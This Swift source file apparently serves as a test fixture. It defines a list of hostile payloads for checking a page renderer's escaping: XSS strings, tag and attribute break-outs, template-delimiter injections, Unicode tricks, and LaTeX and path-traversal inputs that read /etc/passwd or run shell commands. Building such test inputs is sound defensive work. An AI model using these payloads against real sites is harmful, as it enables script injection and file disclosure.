/// Texts that try to become part of a page, or of what it is made with.
enum HostilePayloads {
    /// All of them: a list, and every break-out before every attack.
    static let all: [String] = own + breakouts.flatMap { start in attacks.map { start + $0 } }

    /// Ways out of where a text may stand: an attribute, an element, a comment, a picture.
    private static let breakouts = [
        "", "\">", "'>", "`>", "-->", "</title>", "</style>", "</svg>", "</math>", "]]>", "</textarea>",
        "</table>",
        "\u{301}\">", "&quot;>", "\\\">", "?>",
    ]

    /// What then runs, or asks for something.
    private static let attacks = [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
        "<iframe src=javascript:alert(1)>", "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video src=x onerror=alert(1)>", "<object data=javascript:alert(1)>",
    ]

    private static let own = [
        "</script><script>alert(1)</script>", "<svg><script>alert(1)</script></svg>",
        "<a href=javascript:alert(1)>x</a>", "<body onload=alert(1)>",
        "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "\" onmouseover=alert(1) x=\"",
        "' onfocus=alert(1) autofocus '", "\" style=\"background:url(//example.com)\" x=\"",
        "\u{301}\"\u{301}><script>alert(1)</script>", "\"\u{200D}><img src=x onerror=alert(1)>",
        "<\u{301}script>alert(1)</script>", "<script\u{301}>alert(1)</script>", "<script/src=//example.com>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>",
        "<ſcript>alert(1)</ſcript>",
        "＜script＞alert(1)＜/script＞", "%3Cscript%3Ealert(1)%3C/script%3E",
        "<!--", "-->", "--!>", "<!-- --><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
        "<!>", "<?x",
        "<!DOCTYPE html>", "</main></body></html>", "<template>", "</template>", "<select><option>",
        "<frameset>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3c;script&#x3e;", "&lt", "&amp;lt;", "&#0;", "&NewLine;javascript&colon;alert(1)", "&",
        "{{{style}}}", "{{#contents}}", "{{/contents}}", "{{> report}}", "{{=<% %>=}}", "<%title%>", "{{! ",
        "}}",
        "{{% CONTENT_TYPE:TEXT }}", "{{title}}", "{{&title}}", "{run}", "{count:one/many}", "{", "}",
        "<base href=//example.com>", "<link rel=stylesheet href=//example.com/x>",
        "<meta http-equiv=refresh content=0;url=//example.com>", "<style>*{display:none}</style>",
        "<style>@import '//example.com/x'</style>", "<plaintext>", "<textarea>", "<xmp>", "<noembed>",
        "<title>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<svg><foreignObject><img src=x onerror=alert(1)>", "<svg><use href=data:image/svg+xml,x>",
        "<svg><animate onbegin=alert(1) attributeName=x>", "<form action=javascript:alert(1)><button>",
        "<image src=//example.com/x>", "<img srcset=//example.com/x>",
        "<input type=image src=//example.com/x>",
        "<table background=//example.com/x>", "<embed src=//example.com/x>", "<portal src=//example.com>",
        "javascript:alert(1)", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3e", "\"};alert(1);//",
        "'-alert(1)-'",
        "${alert(1)}", "`${alert(1)}`", "\u{2028}alert(1)\u{2029}", "*/alert(1)/*", "url(//example.com)",
        "expression(alert(1))", "}*{display:none}", "\\3c script\\3e ",
        "\u{202E}txet\u{202C}", "\u{2066}x", "\u{200F}\u{200B}\u{FEFF}", "\u{0}<script>alert(1)</script>",
        "<\u{0}script>alert(1)</script>", "\u{8}\u{1B}[31m", "\u{7F}", "\u{FFFE}", "\u{10FFFD}0\u{10FFFD}",
        "\u{E000}",
        "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}", "𝕊𝕔𝕣𝕚𝕡𝕥", "🏳️‍🌈",
        "[x](javascript:alert(1))", "![x](//example.com/x)", "<javascript:alert(1)>",
        "`</code><script>alert(1)</script>`",
        "**<b>**", "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "[^1]\n\n[^1]: <script>alert(1)</script>",
        "[x]: javascript:alert(1)", "\\input{/etc/passwd}", "\\write18{ls}", "$\\url{x}$",
        "$\\text{<img src=x onerror=alert(1)>}$", "$a < b <script>alert(1)</script>$",
        "% \\end{document}", "^^5cinput",
        "../../../etc/passwd", "=1+1", "x\ty", "- a: b", "!!python/object x", "*alias", "&anchor x",
    ]
}
